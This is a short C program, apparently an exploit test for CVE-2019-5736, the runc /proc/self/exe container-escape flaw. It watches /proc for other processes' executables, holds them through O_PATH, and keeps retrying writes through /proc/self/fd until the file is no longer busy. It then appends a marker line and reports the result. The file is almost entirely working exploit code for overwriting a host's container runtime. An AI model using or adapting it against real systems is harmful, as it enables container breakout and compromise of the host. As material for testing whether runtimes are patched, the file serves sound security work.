/*
 * CVE-2019-5736: overwrites the runtime by /proc/N/exe. Until a file `stop` exists it keeps hold (O_PATH) of whatever
 * the processes beside it execute, and opens each for writing again and again, because nothing may be written that is
 * being executed. Whatever could be opened gets a line of text at its end. Prints `busy INODE`, then `wrote INODE`, or
 * `refused INODE ERROR` when the answer is one that waiting does not change.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define LIMIT 64

static struct held {
    int file;
    struct stat status;
    int busy, answered;
} held[LIMIT];
static int count;

static int is_known(const struct stat *status) {
    for (int i = 0; i < count; i++)
        if (held[i].status.st_dev == status->st_dev && held[i].status.st_ino == status->st_ino) return 1;
    return 0;
}

static void hold(const char *path) {
    struct held *h = &held[count];
    if (count == LIMIT) return;
    h->file = open(path, O_PATH | O_CLOEXEC);
    if (h->file < 0) return;
    if (fstat(h->file, &h->status) < 0 || is_known(&h->status)) {
        close(h->file);
        return;
    }
    count++;
}

static void overwrite(struct held *h) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", h->file);
    int file = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    unsigned long inode = (unsigned long)h->status.st_ino;
    if (file < 0 && errno == ETXTBSY) {
        if (!h->busy) printf("busy %lu\n", inode);
        fflush(stdout);
        h->busy = 1;
        return;
    }
    h->answered = 1;
    if (file < 0) printf("refused %lu %s\n", inode, strerrorname_np(errno));
    else if (write(file, "overwritten\n", 12) == 12) printf("wrote %lu\n", inode);
    fflush(stdout);
    if (file >= 0) close(file);
}

int main(void) {
    hold("/proc/self/exe");
    if (count == 0) return 2;
    printf("ready\n");
    fflush(stdout);
    while (access("stop", F_OK) != 0) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc != NULL && (entry = readdir(proc)) != NULL) {
            char path[300];
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            if (atoi(entry->d_name) > 0) hold(path);
        }
        if (proc != NULL) closedir(proc);
        /* The first is this program itself. */
        for (int i = 1; i < count; i++)
            if (!held[i].answered) overwrite(&held[i]);
        usleep(1000);
    }
    return 0;
}
